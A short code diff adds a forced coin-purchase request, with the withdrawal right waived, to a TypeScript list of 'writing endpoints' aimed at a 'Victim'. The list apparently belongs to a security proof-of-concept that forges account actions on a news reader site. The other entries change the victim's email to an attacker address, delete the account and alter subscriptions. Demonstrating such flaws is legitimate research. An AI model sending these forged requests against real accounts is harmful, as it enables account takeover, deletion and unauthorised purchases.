@@ -57,6 +57,7 @@ export function writingEndpoints({ ssoId, customerId, uniqueId, jti }: Victim): 
     { path: '/api/mein/oauth2/logout', form: {} },
     { path: '/account/profile', form: names },
     { path: '/account/email', form: { email: 'evil@leser.example', password: DEMO_PASSWORD } },
+    { path: '/account/coins', form: { article: '1', price: '1', waivesWithdrawal: 'on' } },
     { path: '/account/plus-verification', form: { customerNumber: 'A1234', postcode: '51373' } },
     { path: '/account/deletion', form: { sure: 'on' } },
     { path: '/account/abo', form: { subscription: '1' } },
